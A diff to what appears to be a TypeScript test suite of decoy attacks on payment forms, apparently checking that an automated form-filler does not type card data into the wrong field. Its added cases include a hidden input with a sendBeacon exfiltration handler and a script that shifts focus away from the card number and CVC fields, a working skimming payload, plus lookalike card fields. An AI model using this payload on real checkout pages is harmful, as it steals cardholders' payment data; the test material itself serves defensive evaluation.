@@ -100,4 +100,39 @@ const thieves: readonly Attack[] = [
   },
 ];
 
-export const decoys: readonly Attack[] = [...hidden, ...frames, ...thieves];
+/** The focus moves a moment after it came: whatever is written then lands elsewhere. */
+const lateThieves = [0, 5, 20, 60].flatMap((wait) =>
+  ['card_number', 'card_cvc'].map(
+    (field): Attack => ({
+      family: 'decoys',
+      name: `focus moves on from ${field} after ${wait} ms`,
+      decoys: ['grab'],
+      slots: {
+        payment: () =>
+          `<input name="grab" id="grab" oninput="navigator.sendBeacon('/grabbed?grab=' + this.value)" style="opacity:0;position:absolute;width:2px"><script>document.querySelector('#${field}')?.addEventListener('focus', () => setTimeout(() => document.querySelector('#grab').focus(), ${wait}));</script>`,
+      },
+    }),
+  ),
+);
+
+/** Visible fields for numbers of other cards. They belong to the shop, but a payment card does not go there. */
+const OTHER_CARDS: readonly [label: string, name: string, auto: string][] = [
+  ['Gift card number', 'gift_card', ''],
+  ['Loyalty card number (optional)', 'loyalty_card', 'off'],
+  ['Membership card number', 'member_card', ''],
+  ['Club card no.', 'club_card', 'cc-number'],
+  ['Confirm card number', 'card_number_again', 'off'],
+  ['Geschenkkartennummer', 'gutschein', ''],
+];
+const otherCards = OTHER_CARDS.flatMap(([label, name, auto]) =>
+  (['contact', 'summary'] as const).map(
+    (slot): Attack => ({
+      family: 'decoys',
+      name: `"${label}" in ${slot}`,
+      decoys: name === 'card_number_again' ? [] : [name],
+      slots: { [slot]: () => field(name, auto, label) },
+    }),
+  ),
+);
+
+export const decoys: readonly Attack[] = [...hidden, ...frames, ...thieves, ...lateThieves, ...otherCards];
